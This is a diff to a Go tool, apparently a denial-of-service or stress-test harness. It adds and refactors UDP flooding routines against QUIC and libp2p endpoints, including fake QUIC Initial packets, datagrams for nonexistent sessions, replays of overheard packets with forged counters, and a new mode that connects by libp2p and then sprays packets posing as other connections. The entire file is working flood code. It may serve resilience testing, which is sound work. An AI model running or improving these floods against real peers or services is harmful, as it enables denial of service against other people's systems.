@@ -4,14 +4,21 @@ import (
 	"bytes"
 	"context"
 	"crypto/rand"
+	"encoding/binary"
 	"errors"
 	mrand "math/rand/v2"
 	"net"
+	"slices"
+	"sync/atomic"
 	"time"
+
+	"github.com/libp2p/go-libp2p"
+	"github.com/libp2p/go-libp2p/p2p/transport/quicreuse"
+	"github.com/multiformats/go-multiaddr"
 )
 
 // burst is how many datagrams go out between two looks at the clock.
-const burst = 32
+const burst = 64
 
 // flood sends what next gives from a socket of its own, as fast as it may.
 func (a *attacker) flood(ctx context.Context, next func() []byte) error {
@@ -20,19 +27,7 @@ func (a *attacker) flood(ctx context.Context, next func() []byte) error {
 		return err
 	}
 	defer func() { _ = c.Close() }()
-	a.begin()
-	begun := time.Now()
-	for ctx.Err() == nil {
-		if a.target.Rate > 0 && float64(a.sent.Load()) > float64(a.target.Rate)*time.Since(begun).Seconds() {
-			pause(ctx, time.Millisecond)
-			continue
-		}
-		for range burst {
-			if _, err := c.Write(next()); err == nil { // a full queue, or ICMP: go on
-				a.sent.Add(1)
-			}
-		}
-	}
+	a.pour(ctx, newVolley(c, nil), next)
 	_ = c.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
 	for b := make([]byte, 2048); ; {
 		_, err := c.Read(b)
@@ -46,12 +41,28 @@ func (a *attacker) flood(ctx context.Context, next func() []byte) error {
 	}
 }
 
+// pour sends what next gives.
+func (a *attacker) pour(ctx context.Context, v *volley, next func() []byte) {
+	a.begin()
+	begun := time.Now()
+	for ctx.Err() == nil {
+		if a.target.Rate > 0 && float64(a.sent.Load()) > float64(a.target.Rate)*time.Since(begun).Seconds() {
+			pause(ctx, time.Millisecond)
+			continue
+		}
+		for range burst {
+			a.sent.Add(int64(v.add(next())))
+		}
+		a.sent.Add(int64(v.flush()))
+	}
+}
+
 // unknownIndex sends well-formed datagrams for sessions that do not exist.
 func unknownIndex(ctx context.Context, a *attacker) error {
 	b := make([]byte, 200)
 	return a.flood(ctx, func() []byte {
-		_, _ = rand.Read(b[1:13])
 		b[0] = 0x21
+		binary.NativeEndian.PutUint64(b[1:], mrand.Uint64())
 		return b
 	})
 }
@@ -72,13 +83,47 @@ func quicJunk(ctx context.Context, a *attacker) error {
 	b := make([]byte, 1200)
 	_, _ = rand.Read(b)
 	return a.flood(ctx, func() []byte {
-		_, _ = rand.Read(b[5:40])
+		binary.NativeEndian.PutUint64(b[6:], mrand.Uint64())
 		copy(b, []byte{0xc3, 0, 0, 0, 1, 8}) // Initial, version 1, 8 bytes of id
 		if mrand.Uint32()%4 == 0 {
 			b[0] = 0x40 | byte(mrand.Uint32()%0x40) // of a connection that is not there
 		}
 		return b
 	})
+}
+
+// junk connects by QUIC, and then sends from where it is connected what looks
+// like packets of other QUIC connections, of none that is there.
+func junk(ctx context.Context, a *attacker) error {
+	var socket atomic.Pointer[net.UDPConn]
+	listen := func(network string, laddr *net.UDPAddr) (net.PacketConn, error) {
+		c, err := net.ListenUDP(network, laddr)
+		if err == nil {
+			socket.Store(c)
+		}
+		return c, err
+	}
+	a.info.Addrs = slices.DeleteFunc(a.info.Addrs, func(m multiaddr.Multiaddr) bool {
+		_, err := m.ValueForProtocol(multiaddr.P_UDP)
+		return err != nil
+	})
+	h, err := libp2p.New(libp2p.Identity(a.key), libp2p.DisableMetrics(), libp2p.DisableRelay(),
+		libp2p.QUICReuse(quicreuse.NewConnManager, quicreuse.OverrideListenUDP(listen)),
+		libp2p.ListenAddrStrings("/ip4/"+a.bind+"/udp/0/quic-v1"))
+	if err != nil {
+		return err
+	}
+	defer func() { _ = h.Close() }()
+	if err := h.Connect(ctx, a.info); err != nil {
+		return err
+	}
+	b := make([]byte, 200)
+	a.pour(ctx, newVolley(socket.Load(), net.UDPAddrFromAddrPort(a.udp)), func() []byte {
+		b[0] = 0x40 | byte(mrand.Uint32()%0x40)
+		binary.NativeEndian.PutUint64(b[1:], mrand.Uint64())
+		return b
+	})
+	return nil
 }
 
 var errNothing = errors.New("nothing was overheard")
@@ -103,7 +148,7 @@ func forged(ctx context.Context, a *attacker) error {
 	}
 	b := bytes.Clone(a.target.Overheard[0])
 	return a.flood(ctx, func() []byte {
-		_, _ = rand.Read(b[8:min(len(b), 40)]) // the low bytes of the counter, and what follows
+		binary.NativeEndian.PutUint64(b[9:], mrand.Uint64()) // the low bytes of the counter, and what follows
 		return b
 	})
 }
